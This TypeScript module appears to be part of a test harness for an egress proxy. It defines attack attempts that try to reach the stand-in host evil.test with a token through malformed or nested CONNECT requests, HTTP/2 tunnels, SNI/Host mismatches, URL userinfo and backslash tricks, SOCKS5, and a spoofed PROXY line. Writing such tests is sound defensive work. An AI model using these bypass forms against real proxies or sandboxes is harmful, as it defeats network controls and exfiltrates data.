/** Proxy forms where they do not belong, and tunnels inside tunnels. */
import type {Attempt, Attacker} from '../attempt.ts';
import {EVIL, SITES} from '../addresses.ts';
import {h2} from '../h2.ts';
import {clientHello} from '../hello.ts';
import {http, say, secured, tlsTo} from '../wire.ts';

const way = (
  id: string,
  title: string,
  attempt: (by: Attacker) => Promise<unknown>,
  more: Partial<Attempt> = {},
): Attempt => ({
  id: `tunnels-${id}`,
  title,
  invariant: 3,
  attempt: async (by) => void (await attempt(by)),
  control: 'free',
  ...more,
});

const get = (token: string, host: string): string => http(`GET /public/${token} HTTP/1.1`, `Host: ${host}`);

/** CONNECT on the explicit port, and then what a client would send through the tunnel. */
async function connected(by: Attacker, authority: string, ...inside: readonly (string | Buffer)[]): Promise<string> {
  return say(by.explicit(), http(`CONNECT ${authority} HTTP/1.1`, `Host: ${authority}`), ...inside);
}

export const TUNNELS: readonly Attempt[] = [
  way('absolute', 'an absolute target of another site on a captured connection', (by) =>
    say(by.connect(SITES.plain, 80), http(`GET http://evil.test/public/${by.token} HTTP/1.1`, 'Host: evil.test')),
  ),
  way('absolute-host', 'an absolute target of another site beside an allowed Host', (by) =>
    say(by.connect(SITES.plain, 80), http(`GET http://evil.test/public/${by.token} HTTP/1.1`, 'Host: plain.test')),
  ),
  way('absolute-in-tls', 'an absolute target of another site inside TLS', async (by) =>
    say(
      await tlsTo(by, SITES.allowed, 'allowed.test', {ALPNProtocols: ['http/1.1']}),
      http(`GET https://evil.test/public/${by.token} HTTP/1.1`, 'Host: allowed.test'),
    ),
  ),
  way('absolute-http-in-tls', 'an absolute http target inside TLS', async (by) =>
    say(
      await tlsTo(by, SITES.allowed, 'allowed.test', {ALPNProtocols: ['http/1.1']}),
      http(`GET http://allowed.test/public/${by.token} HTTP/1.1`, 'Host: allowed.test'),
    ),
  ),
  way('connect-captured', 'CONNECT on a captured connection to an allowed site', (by) =>
    say(
      by.connect(SITES.plain, 80),
      http('CONNECT evil.test:80 HTTP/1.1', 'Host: evil.test:80'),
      get(by.token, 'evil.test'),
    ),
  ),
  way('connect-in-tls', 'CONNECT inside TLS to an allowed site', async (by) =>
    say(
      await tlsTo(by, SITES.allowed, 'allowed.test', {ALPNProtocols: ['http/1.1']}),
      http('CONNECT evil.test:80 HTTP/1.1', 'Host: evil.test:80'),
      get(by.token, 'evil.test'),
    ),
  ),
  way('connect-h2', 'CONNECT as a stream of HTTP/2', async (by) =>
    say(
      await tlsTo(by, SITES.allowed, 'allowed.test', {ALPNProtocols: ['h2']}),
      h2.open(),
      Buffer.concat([
        h2.head(1, [
          [':method', 'CONNECT'],
          [':authority', 'evil.test:80'],
        ]),
        h2.body(1, get(by.token, 'evil.test'), false),
      ]),
    ),
  ),
  way('connect-h2-protocol', 'extended CONNECT with a protocol that is no websocket', async (by) =>
    say(
      await tlsTo(by, SITES.allowed, 'allowed.test', {ALPNProtocols: ['h2']}),
      h2.open(),
      Buffer.concat([
        h2.head(1, [
          [':method', 'CONNECT'],
          [':protocol', 'connect-udp'],
          [':scheme', 'https'],
          [':authority', 'allowed.test'],
          [':path', `/public/${by.token}`],
        ]),
        h2.body(1, by.token, false),
      ]),
    ),
  ),
  way('connect-denied', 'CONNECT to a name that no rule holds', (by) =>
    connected(by, 'evil.test:443', clientHello({names: ['evil.test'], padding: by.token})),
  ),
  way('connect-early', 'bytes sent right behind CONNECT, before its answer', (by) =>
    say(by.explicit(), http('CONNECT evil.test:80 HTTP/1.1', 'Host: evil.test:80') + get(by.token, 'evil.test')),
  ),
  way('connect-literal', 'CONNECT to an address', (by) => connected(by, `${EVIL[4]}:443`, by.token)),
  way('connect-port', 'CONNECT to an allowed name on another port', (by) => connected(by, 'allowed.test:22', by.token)),
  way(
    'connect-sni',
    'CONNECT to an allowed name, another SNI in the tunnel',
    (by) => connected(by, 'pass.test:443', clientHello({names: ['evil.test'], padding: by.token})),
    {invariant: 2},
  ),
  way('connect-no-tls', 'CONNECT to an allowed name, no TLS in the tunnel', (by) =>
    connected(by, 'pass.test:443', by.token),
  ),
  way(
    'connect-host',
    'CONNECT to an allowed name, another one in its Host',
    (by) =>
      say(
        by.explicit(),
        http('CONNECT allowed.test:443 HTTP/1.1', 'Host: evil.test:443'),
        clientHello({names: ['evil.test'], padding: by.token}),
      ),
    {invariant: 2},
  ),
  way(
    'connect-inner-host',
    'CONNECT and SNI of an allowed name, another Host inside',
    async (by) => {
      const socket = by.explicit();
      socket.write(http('CONNECT allowed.test:443 HTTP/1.1', 'Host: allowed.test:443'));
      if (by.name === 'locked') await new Promise((resolve) => socket.once('data', resolve).once('close', resolve));
      await say(await secured(socket, 'allowed.test', {ALPNProtocols: ['http/1.1']}), get(by.token, 'evil.test'));
    },
    {
      invariant: 2,
      control: {
        by: 'free',
        instead: async (by) =>
          void (await say(
            await tlsTo(by, SITES.allowed, 'allowed.test', {ALPNProtocols: ['http/1.1']}),
            get(by.token, 'evil.test'),
          )),
      },
    },
  ),
  way('connect-connect', 'CONNECT inside the tunnel of a CONNECT', (by) =>
    connected(
      by,
      'plain.test:80',
      http('CONNECT evil.test:80 HTTP/1.1', 'Host: evil.test:80'),
      get(by.token, 'evil.test'),
    ),
  ),
  way('connect-absolute', 'an absolute target inside the tunnel of a CONNECT', (by) =>
    connected(by, 'plain.test:80', http(`GET http://evil.test/public/${by.token} HTTP/1.1`, 'Host: evil.test')),
  ),
  way('explicit-https-target', 'an absolute https target asked of the explicit port in the clear', (by) =>
    say(by.explicit(), http(`GET https://allowed.test/public/${by.token} HTTP/1.1`, 'Host: allowed.test')),
  ),
  way('explicit-origin', 'an origin target asked of the explicit port', (by) =>
    say(by.explicit(), http(`GET /public/${by.token} HTTP/1.1`, 'Host: evil.test')),
  ),
  way(
    'explicit-host',
    'an absolute target of an allowed site beside another Host',
    (by) => say(by.explicit(), http(`GET http://plain.test/public/${by.token} HTTP/1.1`, 'Host: evil.test')),
    {invariant: 2},
  ),
  way('explicit-second', 'an allowed absolute target, then another site on the same connection', (by) =>
    say(
      by.explicit(),
      http('GET http://plain.test/public/a HTTP/1.1', 'Host: plain.test'),
      http(`GET http://evil.test/public/${by.token} HTTP/1.1`, 'Host: evil.test'),
    ),
  ),
  way('explicit-ftp', 'an ftp target asked of the explicit port', (by) =>
    say(by.explicit(), http(`GET ftp://evil.test/${by.token} HTTP/1.1`, 'Host: evil.test')),
  ),
  way('explicit-userinfo', 'a target with user information in front of the name', (by) =>
    say(by.explicit(), http(`GET http://plain.test@evil.test/public/${by.token} HTTP/1.1`, 'Host: plain.test')),
  ),
  way('explicit-backslash', 'a target whose name ends with a backslash for one reader', (by) =>
    say(by.explicit(), http(`GET http://evil.test\\@plain.test/public/${by.token} HTTP/1.1`, 'Host: plain.test')),
  ),
  way('socks5', 'SOCKS 5 on the explicit port', (by) =>
    say(by.explicit(), '\x05\x01\x00', `\x05\x01\x00\x03\x09evil.test\x00\x50`, get(by.token, 'evil.test')),
  ),
  way('proxy-protocol', 'a PROXY protocol line that claims another source', (by) =>
    say(by.connect(SITES.plain, 80), `PROXY TCP4 10.77.0.11 ${SITES.plain} 4000 80\r\n${get(by.token, 'plain.test')}`),
  ),
];
